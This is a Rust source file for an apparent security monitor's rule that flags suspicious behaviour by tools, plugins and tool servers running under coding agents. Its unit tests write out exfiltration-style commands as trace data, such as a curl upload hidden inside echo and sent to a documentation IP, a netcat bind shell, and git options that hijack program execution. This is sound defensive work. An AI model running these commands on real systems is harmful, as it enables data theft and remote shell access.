//! A tool, a plugin or a server below a coding agent does what no such tool is for.
//!
//! ## What it sees
//! Below an agent: a command that hides among the words of a harmless one (`echo "$(curl …)"`) and talks to somebody, or that a program
//! runs so in a shell of its own; a plain reader of text (`sed`, `sort`, `man`) that starts a program; a program that waits for
//! connections from everywhere and then starts a shell; code that was fetched in this session and talks to somebody; a script that talks
//! to an address without a name of which its call says nothing. A tool server of the project's settings that is started after its
//! program was changed in the job, that waits for connections, or whose shell talks to somebody. And an agent that acts after another program of the job connected to
//! the port it listens on.
//!
//! ## Why it matters
//! A person, or a list of allowed commands, agreed to the tool as it was known. What it does instead nobody agreed to.
//!
//! ## What to do
//! Read the call and the tool in the recording, pin the tool to a version or digest, and take away what it needs no more.
//!
//! ## Known limits
//! Which other version of a tool server would have done the same is not known: behaviour is compared with the call and the kind of
//! program, not with earlier runs. A command that an agent writes openly is compared by `agent-undeclared`. What a step's text or the
//! policy names is meant.

use super::{
    Act, Detection, Hit, attack, below_agent, follows_arguments, is_nameless, named, sends, server, text_of,
};
use crate::agents;
use crate::divergence::Effect;
use crate::event::{Activity, Launch, normal_path};
use crate::finding::{Confidence, Kind, RuleId, Severity, Technique};
use crate::intent::{StepIntent, ToolCall, basename, is_launcher, is_shell};
use crate::lineage::{Process, Standing};

pub const DETECTION: Detection = Detection {
    id: RuleId("agent-tool-divergence"),
    severity: Severity::High,
    confidence: Confidence::Medium,
    techniques: &[Technique("AML.T0110"), Technique("AML.T0053"), Technique("T1059.004"), Technique("T1202")],
    references: &[
        "CVE-2025-6514",
        "CVE-2025-49596",
        "CVE-2025-66032",
        "CVE-2025-52882",
        "GHSA-6xpm-ggf7-wc3p",
    ],
    frameworks: &["CICD-SEC-3", "ASI02", "ASI04", "ASI05"],
    remedy: "Read what the tool did in the recording, pin it to a version you know, and give it only what it needs.",
    source: include_str!("agent_tool_divergence.rs"),
    check,
};

/// Commands that only show something: what is run among their words is seen by nobody who reads the first word.
const SHOWING: &[&str] = &[
    "echo",
    "printf",
    ":",
    "true",
    "false",
    "test",
    "[",
    "cat",
    "ls",
    "head",
    "tail",
    "wc",
    "grep",
    "which",
    "pwd",
    "date",
    "open",
    "xdg-open",
    "sensible-browser",
    "www-browser",
    "x-www-browser",
    "git",
];
/// Readers of text, and what they start by their nature.
const READERS: &[(&str, &[&str])] = &[
    ("sed", &[]),
    ("gsed", &[]),
    ("sort", &["gzip", "bzip2", "xz", "zstd", "lz4", "lzop"]),
    ("grep", &[]),
    ("egrep", &[]),
    ("fgrep", &[]),
    ("rg", &["gzip", "bzip2", "xz", "zstd", "lz4", "brotli", "compress"]),
    ("jq", &[]),
    ("tr", &[]),
    ("nl", &[]),
    ("od", &[]),
    ("xxd", &[]),
    ("strings", &[]),
    ("column", &[]),
    ("comm", &[]),
    ("join", &[]),
    ("paste", &[]),
    ("uniq", &[]),
    ("cut", &[]),
    ("head", &[]),
    ("tail", &[]),
    ("cat", &[]),
    ("wc", &[]),
    ("diff", &["pr"]),
    ("file", &["gzip", "bzip2", "xz", "zstd", "lzip"]),
    (
        "man",
        &[
            "sh",
            "dash",
            "bash",
            "less",
            "more",
            "pager",
            "cat",
            "groff",
            "nroff",
            "troff",
            "grotty",
            "preconv",
            "tbl",
            "eqn",
            "col",
            "gzip",
            "xz",
            "zstd",
            "iconv",
            "manpath",
            "locale",
            "zsoelim",
            "man-recode",
            "mandb",
        ],
    ),
];
/// Options by which git is told which program to run.
const STEERING: &[&str] = &[
    "--upload-pack=",
    "--receive-pack=",
    "--exec=",
    "core.sshCommand=",
    "core.pager=",
    "core.fsmonitor=",
    "core.editor=",
    "diff.external=",
    "--open-files-in-pager=",
    "--ext-diff=",
];
/// From here on the kernel chooses ports: a test's.
const EPHEMERAL: u16 = 32_768;

fn check(act: &Act<'_>) -> Vec<Hit> {
    if act.process.agent.is_none() || act.process.is_agent {
        return Vec::new();
    }
    match (act.effect, act.activity) {
        (Effect::Launch { program }, Activity::Launch(launch)) => {
            let mut hits = by_reader(act, program, launch);
            hits.extend(by_listener(act, program, launch));
            hits.extend(driven(act));
            hits.extend(drifted(act));
            hits
        }
        (_, Activity::Listen { on }) if !on.ip().is_loopback() => {
            let Some((server, file)) = server(act).filter(|(server, _)| server.key == act.process.key) else {
                return Vec::new();
            };
            let title = format!(
                "{}, a tool server of {file}, waits for connections on {on}",
                named(act.lineage, server.key)
            );
            divergence(act, (Severity::Medium, Confidence::Medium), title, &on.to_string())
        }
        (Effect::Connect { object, .. }, _) if act.explanation.reason().is_none() => {
            let mut hits = hidden(act, object);
            if hits.is_empty() {
                hits.extend(by_server(act, object));
            }
            if hits.is_empty() {
                hits.extend(by_script(act, object));
            }
            if hits.is_empty() {
                hits.extend(fetched(act, object));
            }
            if hits.is_empty() {
                hits.extend(unnamed(act, object));
            }
            hits
        }
        _ => Vec::new(),
    }
}

fn divergence(act: &Act<'_>, weight: (Severity, Confidence), title: String, object: &str) -> Vec<Hit> {
    let mut hits = attack(act, &DETECTION, weight, title, object);
    hits[0].kind = Kind::Divergence;
    hits
}

fn intent(act: &Act<'_>, text: String) -> StepIntent {
    let call = ToolCall { commands: vec![text], ..ToolCall::default() };
    call.intent(&act.context.job.home, &act.context.job.workspace)
}

/// Whether only shells and launchers stand between a process and the agent: the agent wrote its text itself.
fn is_agents_own(act: &Act<'_>, process: &Process) -> bool {
    let is_plain = |process: &Process| {
        let Some(launch) = process.launch.as_deref() else { return true };
        let name = basename(&launch.executable.path);
        let relay =
            process.agent.as_deref().and_then(agents::by_id).is_some_and(|agent| agent.is_relay(launch));
        (is_shell(name) && launch.script.is_none()) || is_launcher(name) || relay
    };
    act.lineage
        .ancestors(process.key)
        .take_while(|above| !above.is_agent && above.agent.is_some())
        .all(is_plain)
}

/// A command among the words of one that only shows something talks to somebody.
fn hidden(act: &Act<'_>, object: &str) -> Vec<Hit> {
    let Some((shell, text)) = below_agent(act).find_map(|process| Some((process, text_of(process)?))) else {
        return Vec::new();
    };
    let Some(launch) = act.process.launch.as_deref() else { return Vec::new() };
    let names = [&*act.process.name, basename(&launch.executable.path), basename(&launch.requested)];
    let intent = intent(act, text);
    let mut same = (intent.commands.iter())
        .filter(|command| command.words.first().is_some_and(|word| names.contains(&basename(&word.text))))
        .peekable();
    let is_there = same.peek().is_some();
    let is_hidden = |within: &Option<String>| within.as_deref().is_some_and(|name| SHOWING.contains(&name));
    if !is_there || !same.all(|command| is_hidden(&command.within)) {
        return Vec::new();
    }
    let is_programs = !is_agents_own(act, shell);
    let is_sent = sends(act.process);
    if !is_programs && !is_sent && !is_nameless(act) {
        return Vec::new();
    }
    let who = named(act.lineage, act.process.key);
    if is_programs {
        let title = format!(
            "{who} connected to {object}, from among the words of another command in a shell that a program below the agent ran"
        );
        return attack(act, &DETECTION, (Severity::Critical, Confidence::Medium), title, object);
    }
    let title =
        format!("{who} connected to {object}, hidden among the words of a command that only shows something");
    divergence(act, (Severity::High, Confidence::Medium), title, object)
}

/// A tool server has a shell that talks to somebody.
fn by_server(act: &Act<'_>, object: &str) -> Vec<Hit> {
    let Some((server, file)) = server(act) else { return Vec::new() };
    let is_below = |process: &&Process| process.key != server.key;
    let has_shell = below_agent(act).take_while(is_below).any(|process| text_of(process).is_some());
    // A shell that has but one thing to do becomes it, and its text is gone.
    let is_client = server.key != act.process.key && follows_arguments(act.process) && is_nameless(act);
    if !has_shell && !is_client {
        return Vec::new();
    }
    let title = format!(
        "{} connected to {object}, started by {}, a tool server of {file}",
        named(act.lineage, act.process.key),
        named(act.lineage, server.key)
    );
    let severity = if is_nameless(act) { Severity::Critical } else { Severity::High };
    attack(act, &DETECTION, (severity, Confidence::Medium), title, object)
}

/// A script that an agent runs has a client of its own talk to an address without a name.
fn by_script(act: &Act<'_>, object: &str) -> Vec<Hit> {
    if !is_nameless(act) || !follows_arguments(act.process) {
        return Vec::new();
    }
    let mut above = below_agent(act).skip(1);
    let Some(script) = above.find(|process| is_script(process)) else { return Vec::new() };
    if below_agent(act).any(|process| matches!(process.tool, Some("tests" | "make" | "npm"))) {
        return Vec::new();
    }
    let title = format!(
        "{} connected to {object}, started by {}, which the agent ran",
        named(act.lineage, act.process.key),
        named(act.lineage, script.key)
    );
    attack(act, &DETECTION, (Severity::High, Confidence::Medium), title, object)
}

/// A tool server is started whose program is no longer what the project has.
fn drifted(act: &Act<'_>) -> Vec<Hit> {
    let Some((server, file)) = server(act).filter(|(server, _)| server.key == act.process.key) else {
        return Vec::new();
    };
    let Some(launch) = server.launch.as_deref() else { return Vec::new() };
    let absolute = |word: &String| {
        if word.starts_with('/') {
            word.clone()
        } else {
            normal_path(&format!("{}/{word}", launch.directory))
        }
    };
    let words = launch.arguments.iter().skip(1).filter(|word| !word.starts_with('-')).map(absolute);
    let mut files = words.chain([launch.program().path.clone()]);
    let Some(changed) = files.find(|path| act.lineage.is_changed(path)) else { return Vec::new() };
    let title = format!(
        "the agent started a tool server of {file} whose {} was changed in this job",
        basename(&changed)
    );
    divergence(act, (Severity::High, Confidence::Medium), title, &changed)
}

/// Whether this process runs code of a folder that was fetched in this session, outside of the workspace.
fn is_fetched(act: &Act<'_>, process: &Process) -> bool {
    let Some(launch) = process.launch.as_deref() else { return false };
    let is_outside = |folder: &str| {
        let workspace = &act.context.job.workspace;
        folder != workspace && !folder.starts_with(&format!("{workspace}/")) && act.lineage.is_fetched(folder)
    };
    let folder = |path: &str| path.rsplit_once('/').map(|(folder, _)| folder.to_owned()).unwrap_or_default();
    let is_driver = matches!(process.tool, Some("npm" | "make" | "cargo" | "go" | "pip" | "tests"));
    let script = launch.arguments.iter().skip(1).find(|word| !word.starts_with('-')).map(|word| {
        if word.starts_with('/') { word.clone() } else { format!("{}/{word}", launch.directory) }
    });
    let is_interpreted = process.tool == Some("interpreters")
        || (process.tool == Some("shells") && text_of(process).is_none());
    (is_driver && is_outside(&launch.directory))
        || is_outside(&folder(&launch.program().path))
        || (is_interpreted && script.is_some_and(|script| is_outside(&folder(&script))))
}

/// Code that was fetched in this session talks to somebody.
fn fetched(act: &Act<'_>, object: &str) -> Vec<Hit> {
    let Some(tool) = below_agent(act).find(|process| is_fetched(act, process)) else { return Vec::new() };
    let title = format!(
        "{} connected to {object} below {}, whose code was fetched in this session",
        named(act.lineage, act.process.key),
        named(act.lineage, tool.key)
    );
    let severity = if is_nameless(act) { Severity::Critical } else { Severity::High };
    attack(act, &DETECTION, (severity, Confidence::Medium), title, object)
}

/// A script that an agent runs talks to an address without a name, of which the call says nothing.
fn unnamed(act: &Act<'_>, object: &str) -> Vec<Hit> {
    let Effect::Connect { address, .. } = act.effect else { return Vec::new() };
    let is_driven = below_agent(act).any(|process| matches!(process.tool, Some("tests" | "make" | "npm")));
    if !is_nameless(act) || is_driven || follows_arguments(act.process) || !is_script(act.process) {
        return Vec::new();
    }
    let said = below_agent(act).filter_map(text_of).any(|text| text.contains(&address.ip().to_string()));
    if said {
        return Vec::new();
    }
    let title = format!(
        "{}, which the agent ran, connected to {object}, of which its call says nothing",
        named(act.lineage, act.process.key)
    );
    divergence(act, (Severity::Medium, Confidence::Medium), title, object)
}

/// A program that runs a file, not a text in its words.
fn is_script(process: &Process) -> bool {
    let Some(launch) = process.launch.as_deref() else { return false };
    let is_text = |word: &String| matches!(word.as_str(), "-c" | "-e" | "-r" | "--eval" | "-p" | "-");
    let is_of_the_system =
        ["/usr/", "/bin/", "/sbin/", "/lib/"].iter().any(|folder| launch.executable.path.starts_with(folder));
    let is_told = launch.arguments.len() > 1 && !launch.arguments.iter().any(is_text);
    launch.script.is_some()
        || (process.tool == Some("interpreters") && is_told)
        || (process.tool.is_none() && !is_of_the_system)
}

/// A reader of text starts a program.
fn by_reader(act: &Act<'_>, program: &str, launch: &Launch) -> Vec<Hit> {
    let Some(above) = act.process.parent.and_then(|parent| act.lineage.get(parent)) else {
        return Vec::new();
    };
    let Some(reader) = above.launch.as_deref().filter(|_| above.launched) else { return Vec::new() };
    let name = reader.applet().map_or(basename(&reader.executable.path), |(applet, _)| applet);
    if name == "git" && is_shell(basename(&launch.executable.path)) {
        // Options of git that name a program for it to run in place of its own.
        let option =
            reader.arguments.iter().find(|word| STEERING.iter().any(|known| word.starts_with(known)));
        let Some(option) = option else { return Vec::new() };
        let shown = option.split('=').next().unwrap_or(option);
        let title = format!("git was made to start {} by `{shown}`", named(act.lineage, act.process.key));
        return divergence(act, (Severity::High, Confidence::Medium), title, program);
    }
    let Some((_, helpers)) = READERS.iter().find(|(known, _)| *known == name) else { return Vec::new() };
    let is_of_the_system =
        ["/usr/bin/", "/bin/"].iter().any(|folder| reader.executable.path.starts_with(folder));
    let child = [basename(program), basename(&launch.executable.path), basename(&launch.requested)];
    if !is_of_the_system || child.iter().any(|child| helpers.contains(child)) {
        return Vec::new();
    }
    let title =
        format!("{name}, which only reads, was made to start {}", named(act.lineage, act.process.key));
    divergence(act, (Severity::High, Confidence::Medium), title, program)
}

/// A program that waits for connections from everywhere starts a shell, or becomes one.
fn by_listener(act: &Act<'_>, program: &str, launch: &Launch) -> Vec<Hit> {
    let has_shell = is_shell(basename(&launch.executable.path));
    let above = act.process.parent.and_then(|parent| act.lineage.get(parent));
    let listens = |process: &Process| {
        act.lineage.listening(process.key).find(|listener| !listener.on.ip().is_loopback()).cloned()
    };
    let of_parent = above.filter(|above| !above.is_agent && above.tool != Some("tests")).and_then(listens);
    let Some(listener) = listens(act.process).or(of_parent) else { return Vec::new() };
    // A developer's server is asked by the loopback.
    let weight = match listener.caller {
        Some(_) => (Severity::High, Confidence::Medium),
        None if has_shell && listener.on.port() < EPHEMERAL => (Severity::Medium, Confidence::Medium),
        None => return Vec::new(),
    };
    let title = format!(
        "{} waits for connections on {} and started {}",
        named(act.lineage, listener.process),
        listener.on,
        act.process.name
    );
    let mut hits = divergence(act, weight, title, program);
    if let Some((visitor, sequence)) = listener.caller {
        hits[0].kind = Kind::Attack;
        hits[0].evidence.push(sequence);
        let visitor = named(act.lineage, visitor);
        hits[0].title = format!("{} after {visitor} connected", hits[0].title);
    }
    hits
}

/// An agent starts something after another program of the job connected to the port it listens on.
fn driven(act: &Act<'_>) -> Vec<Hit> {
    if act.process.errand != Some(act.process.key) {
        return Vec::new();
    }
    let Some(agent) =
        act.process.parent.and_then(|parent| act.lineage.get(parent)).filter(|above| above.is_agent)
    else {
        return Vec::new();
    };
    let visited = act.lineage.listening(agent.key).find_map(|listener| Some((listener, listener.visitor?)));
    let Some((listener, (visitor, sequence))) = visited else { return Vec::new() };
    let port = format!(":{}", listener.on.port());
    // A client that the step's text points at the port is the author's.
    let is_said = act.lineage.get(visitor).is_none_or(|visitor| {
        let words = visitor.launch.as_deref().map(|launch| &launch.arguments);
        visitor.agent == agent.agent
            || (matches!(visitor.standing, Standing::Command | Standing::Text)
                && words.is_some_and(|words| words.iter().any(|word| word.contains(&port))))
    });
    if is_said {
        return Vec::new();
    }
    let title = format!(
        "{} acts after {} connected to the port it listens on ({})",
        named(act.lineage, agent.key),
        named(act.lineage, visitor),
        listener.on
    );
    let mut hits =
        attack(act, &DETECTION, (Severity::High, Confidence::Medium), title, listener.on.to_string());
    hits[0].evidence.push(sequence);
    hits
}

#[cfg(test)]
mod tests {
    use crate::trace::findings;

    /// What the rule says below an agent.
    fn told(trace: &str) -> Vec<String> {
        let trace = format!("1 > 2 agent codex\n2 launch /usr/local/bin/codex codex exec fix\n{trace}");
        let mut lines = findings("codex exec fix\npython3 drive.py\n", "", &trace);
        lines.retain(|line| line.contains("agent-tool-divergence"));
        lines
    }

    #[test]
    fn a_command_among_the_words_of_another() {
        let shell = |text: &str| format!("2 > 3 launch /usr/bin/bash bash -c '{text}\n");
        let curl =
            "3 > 4\n4 > 5 launch /usr/bin/curl curl -d @x http://203.0.113.7/\n5 connect 203.0.113.7:80";
        let hidden = shell("echo_\"checking_$(curl_-d_@x_http://203.0.113.7/)\"_>_/dev/null");
        assert_eq!(
            told(&format!("{hidden}{curl}")),
            ["!agent-tool-divergence divergence high 203.0.113.7:80"]
        );
        // Openly, in an assignment, and asking a service that has a name.
        for text in
            ["curl_-d_@x_http://203.0.113.7/_&&_echo_$(date)", "A=$(curl_-d_@x_http://203.0.113.7/);_echo_$A"]
        {
            assert_eq!(told(&format!("{}{curl}", shell(text))), [""; 0], "{text}");
        }
        let asks =
            "3 > 4\n4 > 5 launch /usr/bin/curl curl -s https://latest.example/\n5 connect 203.0.113.7:443";
        let text = shell("echo_\"latest:_$(curl_-s_https://latest.example/)\"");
        assert_eq!(told(&format!("answer latest.example 203.0.113.7\n{text}{asks}")), [""; 0]);
    }

    #[test]
    fn a_connector_hands_an_address_to_a_shell() {
        assert_eq!(
            told(
                "2 > 3 launch /usr/bin/bash bash -c node;x
                 3 > 4 launch /usr/bin/node node tools/connector.js
                 4 > 5 launch /usr/bin/dash sh -c 'echo_http://auth.example/$(curl_http://203.0.113.7/)
                 5 > 6 launch /usr/bin/curl curl http://203.0.113.7/
                 6 connect 203.0.113.7:80"
            ),
            ["!agent-tool-divergence attack critical 203.0.113.7:80"]
        );
    }

    #[test]
    fn a_reader_of_text_starts_a_shell() {
        let below = |reader: &str, child: &str| {
            told(&format!(
                "2 > 3 launch /usr/bin/bash bash -c x\n3 > 4 launch {reader}\n4 > 5 launch {child}"
            ))
        };
        let wanted = ["!agent-tool-divergence divergence high /usr/bin/dash"];
        assert_eq!(below("/usr/bin/sed sed -n 1e", "/usr/bin/dash sh -c id"), wanted);
        assert_eq!(below("/usr/bin/grep grep x", "/usr/bin/dash sh -c id"), wanted);
        assert_eq!(below("/usr/bin/sort sort -o a b", "/usr/bin/gzip gzip"), [""; 0]);
        assert_eq!(below("/usr/bin/find find . -exec", "/usr/bin/dash sh -c id"), [""; 0]);
        assert_eq!(below("/usr/bin/man man ls", "/usr/bin/less less"), [""; 0]);
        assert_eq!(below("/usr/bin/git git ls-remote --upload-pack=id x", "/usr/bin/dash sh -c id"), wanted);
        assert_eq!(below("/usr/bin/git git commit", "/usr/bin/dash sh -c hook"), [""; 0]);
    }

    #[test]
    fn a_listener_starts_a_shell() {
        let listener =
            "2 > 3 launch /usr/bin/bash bash -c x\n3 > 4 launch /usr/bin/python3.11 python3 plugin.py\n";
        let shell = "4 > 5 launch /usr/bin/dash sh -c id";
        assert_eq!(
            told(&format!("{listener}4 listen 0.0.0.0:6298\n{shell}")),
            ["agent-tool-divergence divergence medium /usr/bin/dash"]
        );
        assert_eq!(
            told(&format!(
                "{listener}4 listen 0.0.0.0:6298\n3 > 6 launch /usr/bin/curl curl x\n6 connect 203.0.113.9:6298\n{shell}"
            )),
            ["!agent-tool-divergence attack high /usr/bin/dash"]
        );
        assert_eq!(
            told(
                "2 > 3 launch /usr/bin/nc nc -l -e sh 4444\n3 listen 0.0.0.0:4444\n3 launch /usr/bin/dash sh"
            ),
            ["agent-tool-divergence divergence medium /usr/bin/dash"]
        );
        assert_eq!(
            told(&format!(
                "{listener}4 listen 0.0.0.0:6298\n3 > 6 launch /usr/bin/curl curl x\n6 connect 127.0.0.1:6298\n{shell}"
            )),
            ["agent-tool-divergence divergence medium /usr/bin/dash"]
        );
        // A server for the loopback, one at a port of the kernel's choice, and one that starts no shell.
        for quiet in [
            format!("{listener}4 listen 127.0.0.1:6298\n{shell}"),
            format!("{listener}4 listen [::]:40123\n{shell}"),
            format!("{listener}4 listen [::]:3000\n4 > 5 launch /usr/bin/node node worker.js"),
        ] {
            assert_eq!(told(&quiet), [""; 0], "{quiet}");
        }
    }

    #[test]
    fn fetched_code_talks_to_somebody() {
        let fetch = "2 > 3 launch /usr/bin/bash bash -c x
             3 > 4 launch /usr/bin/git git clone x /tmp/tool
             4 create /tmp/tool/package.json\n";
        let runs = |folder: &str| {
            format!(
                "{fetch}3 > 5 launch /usr/bin/node node /usr/bin/npm run preinstall %{folder}
                 5 > 6 launch /usr/bin/dash sh -c 'curl_x
                 6 > 7 launch /usr/bin/curl curl x
                 7 connect 203.0.113.7:80"
            )
        };
        assert_eq!(told(&runs("/tmp/tool")), ["!agent-tool-divergence attack critical 203.0.113.7:80"]);
        assert_eq!(told(&runs("/w")), [""; 0]);
        // The agent's own text, in that folder.
        let own = format!("{fetch}3 > 7 launch /usr/bin/curl curl x %/tmp/tool\n7 connect 203.0.113.7:80");
        assert_eq!(told(&own), [""; 0]);
    }

    #[test]
    fn a_script_talks_to_an_address_of_which_its_call_says_nothing() {
        let script =
            "2 > 3 launch /usr/bin/bash bash -c x\n3 > 4 launch /usr/bin/python3.11 python3 plugin.py\n";
        assert_eq!(
            told(&format!("{script}4 connect 203.0.113.7:80")),
            ["agent-tool-divergence divergence medium 203.0.113.7:80"]
        );
        for quiet in [
            format!("answer data.example 203.0.113.7\n{script}4 connect 203.0.113.7:80"),
            format!("{script}4 connect 10.0.0.7:80"),
            "2 > 3 launch /usr/bin/bash bash -c 'python3_plugin.py_203.0.113.7\n3 > 4 launch /usr/bin/python3.11 python3 plugin.py\n4 connect 203.0.113.7:80".to_owned(),
        ] {
            assert_eq!(told(&quiet), [""; 0], "{quiet}");
        }
    }

    #[test]
    fn a_script_has_a_client_talk_to_an_address() {
        let script =
            "2 > 3 launch /usr/bin/bash bash -c x\n3 > 4 launch /usr/bin/python3.11 python3 plugin.py\n";
        let curl = "4 > 5 launch /usr/bin/curl curl x\n5 connect 203.0.113.7:80";
        assert_eq!(told(&format!("{script}{curl}")), ["!agent-tool-divergence attack high 203.0.113.7:80"]);
        assert_eq!(told(&format!("answer x.example 203.0.113.7\n{script}{curl}")), [""; 0]);
        let make = "2 > 3 launch /usr/bin/bash bash -c x\n3 > 4 launch /usr/bin/make make test\n";
        assert_eq!(told(&format!("{make}{curl}")), [""; 0]);
    }

    #[test]
    fn another_program_drives_the_agent_by_its_port() {
        let driven = |driver: &str| {
            told(&format!(
                "2 listen 127.0.0.1:39177
                 1 > 7 launch {driver}
                 7 connect 127.0.0.1:39177
                 2 > 3 launch /usr/bin/bash bash -c x"
            ))
        };
        assert_eq!(
            driven("/usr/bin/python3 python3 drive.py"),
            ["!agent-tool-divergence attack high 127.0.0.1:39177"]
        );
        assert_eq!(driven("/usr/bin/python3 python3 drive.py http://127.0.0.1:39177/"), [""; 0]);
        // Nobody came; and what the agent started itself.
        assert_eq!(told("2 listen 127.0.0.1:39177\n2 > 3 launch /usr/bin/bash bash -c x"), [""; 0]);
        assert_eq!(
            told(
                "2 listen 127.0.0.1:39177
                 2 > 3 launch /usr/bin/bash bash -c x
                 3 > 4 launch /usr/bin/curl curl x
                 4 connect 127.0.0.1:39177
                 2 > 5 launch /usr/bin/bash bash -c x"
            ),
            [""; 0]
        );
    }

    const SERVER: &str = "2 runs /w/.mcp.json server node tools/server.js
         2 > 3 launch /usr/bin/bash bash -c 'node_tools/server.js
         3 launch /usr/bin/node node tools/server.js\n";

    #[test]
    fn a_tool_server_is_changed_before_it_starts() {
        let changed = |hand: &str| {
            let trace =
                format!("{hand}\n1 > 2 agent codex\n2 launch /usr/local/bin/codex codex exec fix\n{SERVER}");
            let mut lines = findings("make build\nnpm ci\ngit checkout x\ncodex exec fix\n", "", &trace);
            lines.retain(|line| line.contains("agent-tool-divergence"));
            lines
        };
        let wanted = ["!agent-tool-divergence divergence high /w/tools/server.js"];
        let build = "1 > 8 launch /usr/bin/make make build\n8 > 9 launch /usr/bin/python3.11 python3 x.py";
        assert_eq!(changed(&format!("{build}\n9 write /w/tools/server.js")), wanted);
        let script = "1 > 8 launch /usr/bin/node node /usr/bin/npm ci\n8 > 9 launch /usr/bin/node node x.js";
        assert_eq!(changed(&format!("{script}\n9 create /w/tools/server.js")), wanted);
        // A build that makes it, a checkout, and nobody.
        assert_eq!(
            changed(&format!("{build}\n9 create /w/tools/server.js\n9 write /w/tools/server.js")),
            [""; 0]
        );
        assert_eq!(changed("1 > 8 launch /usr/bin/git git checkout x\n8 create /w/tools/server.js"), [""; 0]);
        assert_eq!(changed("# nobody"), [""; 0]);
    }

    #[test]
    fn a_tool_server_waits_for_others_or_has_a_shell_that_talks() {
        assert_eq!(
            told(&format!("{SERVER}3 listen 0.0.0.0:9000")),
            ["agent-tool-divergence divergence medium 0.0.0.0:9000"]
        );
        assert_eq!(
            told(&format!(
                "{SERVER}3 > 4 launch /usr/bin/dash sh -c 'curl_x\n4 launch /usr/bin/curl curl x\n4 connect 203.0.113.7:80"
            )),
            ["!agent-tool-divergence attack critical 203.0.113.7:80"],
            "the image of the shell is gone, and with it its text"
        );
        assert_eq!(
            told(&format!(
                "{SERVER}3 > 4 launch /usr/bin/dash sh -c 'curl_x\n4 > 5 launch /usr/bin/curl curl x\n5 connect 203.0.113.7:80"
            )),
            ["!agent-tool-divergence attack critical 203.0.113.7:80"]
        );
        // It asks its own service, and waits on the loopback.
        assert_eq!(
            told(&format!(
                "answer tools.example 203.0.113.9\n{SERVER}3 listen 127.0.0.1:9000\n3 connect 203.0.113.9:443"
            )),
            [""; 0]
        );
    }
}
